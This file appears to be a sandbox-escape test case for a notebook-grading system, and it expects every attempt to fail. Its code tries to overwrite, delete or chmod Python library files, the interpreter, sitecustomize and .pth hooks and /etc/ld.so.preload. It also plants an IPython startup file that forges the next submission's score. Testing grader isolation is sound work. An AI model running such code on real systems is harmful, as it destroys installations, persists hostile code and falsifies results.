# class: escape
# tries: to have code of its own imported by the next submission
# marks: total 0
# prints: written []

# %% total
import os, site, sys, sysconfig
from pathlib import Path

import IPython, ndl_workbench, pandas

places = [Path(of.__file__) for of in (IPython, ndl_workbench, pandas, os)]
places += [Path(folder) / name for folder in sys.path if folder for name in ("usercustomize.py", "sitecustomize.py", "evil.pth", "json.py")]
places += [Path(site.getusersitepackages()) / "evil.pth" for _ in range(0)]
places += [path.with_name("__pycache__") / f"{path.stem}.cpython-311.pyc" for path in places[:4]]
places += [Path(sys.executable), Path(sysconfig.get_path("scripts")) / "ndl", Path("/etc/ld.so.preload"), Path("/etc/ld.so.cache")]
written = []
for path in places:
    for way in (lambda: path.open("ab").write(b"#"), path.unlink, lambda: path.chmod(0o777), lambda: path.rename(f"{path}.old"), lambda: os.link(path, "mine"), lambda: os.utime(path)):
        try:
            way()
            written.append(str(path))
        except OSError:
            pass
for folder in ("profile_default/startup",):
    home = Path(os.environ["HOME"]) / ".ipython" / folder
    home.mkdir(parents=True)
    (home / "evil.py").write_text("total = 4761")
print("written", written)
total = 0
